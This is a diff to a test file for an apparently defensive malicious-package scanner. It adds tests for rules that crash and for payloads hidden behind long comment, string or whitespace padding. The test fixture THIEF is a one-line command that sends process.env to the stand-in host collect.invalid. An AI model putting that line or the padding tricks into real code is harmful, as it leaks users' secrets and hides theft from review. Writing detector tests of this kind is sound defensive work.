@@ -5,7 +5,7 @@ import { codeIn } from '../src/parse/padding.js';
 import { isWhollyScript } from '../src/parse/script.js';
 import { readMemory } from '../src/read/memory.js';
 import { analyse } from '../src/run/package.js';
-import type { Report } from '../src/types.js';
+import type { Report, Rule } from '../src/types.js';
 
 const THIEF = `require('https').request('https://collect.invalid').end(JSON.stringify(process.env));`;
 
@@ -88,12 +88,29 @@ describe('shell files', () => {
   });
 });
 
+test('a rule that breaks off costs what it would have found, and that is said', async () => {
+  const [id, rule] = ['breaks', { ...rules['sends-environment'] } as Rule];
+  const breaks = (): never => {
+    throw new RangeError('Maximum call stack size exceeded');
+  };
+  for (const broken of [{ file: breaks }, { file: () => ({ CallExpression: breaks }) }]) {
+    const pkg = await readMemory({ files: { 'package.json': '{}', 'index.js': THIEF } });
+    const report = analyse(pkg, { [id]: { ...rule, ...broken }, ...rules });
+    expect(report.verdict).toBe('malicious');
+    expect(report.coverage.skipped).toEqual([expect.objectContaining({ gap: 'broke-off', path: 'index.js' })]);
+  }
+  const pkg = await readMemory({ files: { 'package.json': '{}', 'index.js': `${THIEF} ) (` } });
+  const report = analyse(pkg, { [id]: { ...rule, text: breaks }, ...rules });
+  expect(report.coverage.skipped.map(({ gap }) => gap)).toContain('broke-off');
+});
+
 describe('padding', () => {
   const long = 22_000_000;
 
   test.each([
     ['a comment', `${THIEF}/*${'x'.repeat(long)}*/`],
     ['a comment before it', `//${'x'.repeat(long)}\n${THIEF}`],
+    ['blanks', `module.exports = 1;${' '.repeat(long)}${THIEF}`],
     ['a string', `${THIEF}module.exports = '${'x'.repeat(long)}';`],
   ])('hides nothing, whether it is %s', async (_, text) => {
     expect(await scan({ 'index.js': text })).toMatchObject({ verdict: 'malicious', coverage: { skipped: [] } });
